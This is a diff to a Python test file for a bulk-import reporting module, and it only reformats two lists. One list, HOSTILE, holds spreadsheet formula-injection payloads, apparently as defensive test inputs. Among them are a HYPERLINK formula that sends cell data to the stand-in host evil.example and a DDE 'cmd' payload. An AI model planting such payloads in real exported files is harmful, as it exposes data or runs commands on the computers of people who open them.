@@ -23,8 +23,14 @@ from bulkimport.report import (
     write_report,
 )
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-1+1",
-           "\t=1+2", "\r=3+4"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd",
+    "-1+1",
+    "\t=1+2",
+    "\r=3+4",
+]
 
 
 def _sent_frame() -> pd.DataFrame:
@@ -150,7 +156,10 @@ def test_a_plan_without_a_send_reports_invalid_rows_with_field_and_value():
     errors = error_rows(frame, plan)
     assert len(errors) == 1  # a dry run lists only the invalid rows, not the pending ones
     assert errors.iloc[0][["row", "status", "code", "field"]].tolist() == [
-        3, "invalid", "empty-message", "message.text"
+        3,
+        "invalid",
+        "empty-message",
+        "message.text",
     ]
     conv = conversation_counts(frame, plan)
     assert conv["conversation"].tolist() == ["a", "b"]
